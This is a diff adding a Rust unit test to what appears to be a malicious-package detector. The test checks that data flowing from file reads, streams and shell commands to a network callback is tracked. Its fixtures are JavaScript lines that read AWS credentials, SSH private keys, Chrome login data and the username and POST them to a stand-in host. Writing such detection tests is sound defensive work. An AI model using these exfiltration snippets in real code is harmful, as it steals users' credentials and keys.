@@ -2047,3 +2047,40 @@ fn a_downloaded_file_that_is_run_is_a_dropper() {
         execFileSync('node', ['/tmp/other.js']);");
     assert!(benign.droppers.is_empty(), "{:#?}", benign.droppers);
 }
+
+/// What a file read or a command delivers to a callback, or a read stream to its `data`
+/// events, carries the file's (or the output's) data; a package's own file carries none.
+#[test]
+fn data_delivered_to_callbacks_and_stream_events_is_followed() {
+    let send =
+        "function post(d) { https.request({ hostname: 'c.example.top', method: 'POST' }).end(d); }";
+    for (code, kind) in [
+        (
+            "fs.readFile(path.join(os.homedir(), '.aws', 'credentials'), 'utf8', (e, d) => post(d));",
+            DataKind::StoredCredentials,
+        ),
+        (
+            "fs.createReadStream(path.join(os.homedir(), '.ssh', 'id_rsa')).on('data', (c) => post(c));",
+            DataKind::SshKey,
+        ),
+        (
+            "require('child_process').exec('whoami', (err, out) => post(out));",
+            DataKind::Username,
+        ),
+        (
+            "fs.promises.readFile(os.homedir() + '/.config/google-chrome/Default/Login Data').then(post);",
+            DataKind::StoredCredentials,
+        ),
+    ] {
+        let f = run(&format!(
+            "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');\n{send}\n{code}"
+        ));
+        assert_eq!(f.flows.len(), 1, "{code}: {:#?}", f.flows);
+        assert!(f.flows[0].kinds.contains(kind), "{code}: {:#?}", f.flows);
+    }
+    let own = run(&format!(
+        "const fs = require('fs'), https = require('https');\n{send}\n\
+         fs.readFile(__dirname + '/package.json', 'utf8', (e, d) => post(d));"
+    ));
+    assert!(own.flows.is_empty(), "{:#?}", own.flows);
+}
